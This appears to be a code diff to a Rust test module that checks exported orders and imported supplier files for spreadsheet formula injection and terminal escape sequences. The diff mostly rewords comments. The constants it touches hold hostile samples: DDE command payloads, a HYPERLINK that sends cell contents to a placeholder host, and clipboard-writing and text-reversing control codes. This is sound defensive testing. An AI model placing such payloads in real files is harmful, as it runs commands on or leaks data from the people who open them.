@@ -1,5 +1,4 @@
-//! What strangers and suppliers write, and others open: orders in a spreadsheet program, files that are imported on a
-//! terminal.
+//! Hostile text that others open: orders in a spreadsheet program, and supplier files imported on a terminal.
 
 use crate::{
     report::Report,
@@ -9,7 +8,7 @@ use crate::{
 use serde_json::json;
 use std::fs;
 
-/// Addresses that a spreadsheet would run, whatever it separates cells by.
+/// Addresses that a spreadsheet program would run, with some separator.
 const FORMULAS: [&str; 12] = [
     "=HYPERLINK(\"https://x.example/\"&A1)",
     "+cmd|' /C calc'!A0",
@@ -25,13 +24,13 @@ const FORMULAS: [&str; 12] = [
     "\u{200b}\u{ad}=cmd|' /C calc'!A0",
 ];
 
-/// Whether a program runs a cell of a line when it separates cells by a sign and knows nothing of quotation marks.
+/// Whether a program that splits cells at these separators, and ignores quotation marks, would run a cell.
 fn runs(file: &str, separators: &[char]) -> bool {
     file.split(separators).any(|cell| {
         let seen = cell.trim_start_matches(|sign: char| {
             sign.is_whitespace() || sign.is_control() || matches!(sign, '"' | '\u{ad}' | '\u{200b}' | '\u{feff}')
         });
-        // The telephone number of the order is one.
+        // The order's telephone number is not a formula.
         seen.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}']) && !seen.starts_with("+1 (937) 555-0148")
     })
 }
@@ -63,7 +62,7 @@ pub(crate) async fn orders_that_a_spreadsheet_runs(mut report: Report) -> Report
     report
 }
 
-/// What terminals obey: they clear the screen, write to the clipboard, set the title, and turn the line around.
+/// Terminal control sequences: they clear the screen, write to the clipboard, set the title, and reverse the line.
 const SEQUENCES: [&str; 6] =
     ["\u{1b}[2J", "\u{1b}]52;c;cm0=\u{7}", "\u{9b}31m", "\u{8}\u{8}ok", "\r\u{7f}", "\u{202e}fdp"];
 
